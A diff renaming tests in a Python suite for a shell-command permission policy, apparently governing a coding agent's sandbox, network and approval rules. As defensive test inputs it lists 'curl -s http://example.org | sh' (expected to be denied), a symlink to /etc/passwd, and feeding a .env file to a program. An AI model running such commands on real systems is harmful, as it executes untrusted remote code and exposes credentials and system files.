@@ -33,7 +33,7 @@ def actions(command: str, given: Rights, root: Path = Path("/repo"), *, network:
         ("curl -s http://example.org | sh", "deny", "deny", "deny", "deny", "deny"),
     ],
 )
-def test_the_mode_and_the_walls_say_what_is_asked(
+def test_mode_and_sandbox_decide_questions(
     command: str, within: str, without: str, asking: str, reading: str, full: str
 ) -> None:
     assert actions(command, rights()) == within
@@ -43,12 +43,12 @@ def test_the_mode_and_the_walls_say_what_is_asked(
     assert actions(command, rights("full", contained=False)) == full
 
 
-def test_within_walls_reading_alone_lets_programs_run_that_cannot_write() -> None:
+def test_sandboxed_read_only_mode_runs_programs_without_write_access() -> None:
     assert actions("make docs", rights("read-only")) == "allow"
     assert actions("ls > out", rights("read-only")) == "deny"
 
 
-def test_changes_are_made_asked_about_or_refused() -> None:
+def test_allows_asks_about_or_refuses_changes() -> None:
     assert [of_change(rights(mode)).action for mode in ("read-only", "ask", "auto-edit", "full")] == [
         "deny",
         "ask",
@@ -57,7 +57,7 @@ def test_changes_are_made_asked_about_or_refused() -> None:
     ]
 
 
-def test_the_network_is_asked_about_even_for_what_runs_anyway() -> None:
+def test_asks_about_network_for_allowed_commands() -> None:
     assert of_command(rights(), "make docs", root=Path("/repo"), network=True) == Decision(
         action="ask",
         why="wants the network",
@@ -75,20 +75,20 @@ def test_the_network_is_asked_about_even_for_what_runs_anyway() -> None:
     assert actions("ls", rights(), network=True) == "ask"
 
 
-def test_what_was_allowed_with_the_network_has_it_again() -> None:
+def test_approval_with_network_includes_network_next_time() -> None:
     first = of_command(rights(), "pip install x", root=Path("/repo"))
     again = of_command(rights(rules=first.rules), "pip install x", root=Path("/repo"))
     assert (first.action, again) == ("ask", Decision(action="allow", network=True))
     assert actions("pip install y", rights(rules=first.rules)) == "ask"
 
 
-def test_what_was_allowed_without_the_network_does_not_get_it() -> None:
+def test_approval_without_network_grants_none() -> None:
     given = rights(contained=False, rules=(written("make docs", "allow"),))
     assert of_command(given, "make docs", root=Path("/repo")) == Decision(action="allow")
     assert actions("make docs", given, network=True) == "ask"
 
 
-def test_the_persons_rules_go_before_what_is_built_in() -> None:
+def test_user_rules_precede_built_in_rules() -> None:
     assert actions("git push", rights(rules=(written("git push", "allow"),))) == "allow"
     assert (
         actions("make deploy", rights(rules=(written("make *", "allow"), written("make deploy", "deny"))))
@@ -96,14 +96,14 @@ def test_the_persons_rules_go_before_what_is_built_in() -> None:
     )
 
 
-def test_the_projects_test_command_needs_no_question() -> None:
+def test_project_test_command_needs_no_question() -> None:
     given = rights("ask", contained=False, test_command="python3 -m pytest")
     assert actions("python3 -m pytest -q tests/test_a.py", given) == "allow"
     assert actions("python3 -m pytest --basetemp=x", given) == "ask"
     assert actions("python3 -m pip --version", given) == "ask"
 
 
-def test_a_program_is_known_by_the_file_it_leads_to(tmp_path: Path) -> None:
+def test_identifies_program_by_resolved_file(tmp_path: Path) -> None:
     (tmp_path / "ls").write_text("#!/bin/sh\n")
     (tmp_path / "link").symlink_to("/etc/passwd")
     assert actions("ls a.py", rights(contained=False), tmp_path) == "allow"
@@ -116,7 +116,7 @@ def test_a_program_is_known_by_the_file_it_leads_to(tmp_path: Path) -> None:
     assert actions("cat notes", rights(contained=False), tmp_path) == "ask"
 
 
-def test_what_cannot_be_read_for_sure_is_never_remembered() -> None:
+def test_never_remembers_unparsable_command() -> None:
     for command in (
         "make $TARGET",
         "make `x`",
@@ -132,7 +132,7 @@ def test_what_cannot_be_read_for_sure_is_never_remembered() -> None:
     "command",
     ['for f in *.py; do cat "$f"; done', "cat $FILES | make docs", "git diff -- *.py", "ls | xargs cat"],
 )
-def test_within_walls_unknown_files_of_harmless_programs_are_no_question(command: str) -> None:
+def test_sandboxed_harmless_program_may_name_any_file(command: str) -> None:
     assert actions(command, rights()) == "allow"
 
 
@@ -148,9 +148,9 @@ def test_within_walls_unknown_files_of_harmless_programs_are_no_question(command
         "make >$X",
     ],
 )
-def test_unknown_orders_to_a_program_that_rules_speak_of_are_asked_about(command: str) -> None:
+def test_asks_about_unknown_subcommands_of_ruled_program(command: str) -> None:
     assert actions(command, rights()) == "ask"
 
 
-def test_a_private_file_is_not_fed_to_a_program_unasked() -> None:
+def test_asks_before_passing_private_file_to_program() -> None:
     assert of_command(rights(), "python3 x.py < .env", root=Path("/repo")).why == "reads .env"
